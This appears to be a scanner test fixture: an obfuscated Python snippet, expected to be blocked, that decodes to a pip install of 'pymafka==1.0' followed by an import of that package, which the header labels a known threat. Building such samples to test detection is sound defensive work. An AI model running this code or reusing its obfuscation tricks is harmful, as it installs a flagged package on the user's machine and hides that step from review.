# expect: BLOCKED category: known_threat variant-of: risky/known_threat/pip_install_pymafka.py technique: encode+getattr
subprocess = __import__(''.join(['s', 'u', 'b', 'p', 'r', 'o', 'c', 'e', 's', 's']))
sys = __import__(__import__('base64').b64decode('c3lz').decode())
getattr(subprocess, ''.join(map(chr, [99, 104, 101, 99, 107, 95, 99, 97, 108, 108])))([sys.executable, getattr(bytes, bytes.fromhex('66726f6d686578').decode())('2d6d').decode(), ''.join(map(chr, [112, 105, 112])), 'llatsni'[::-1], __import__('codecs').decode('clznsxn==1.0', 'rot13')])
pymafka = __import__('akfamyp'[::-1])
print(pymafka)
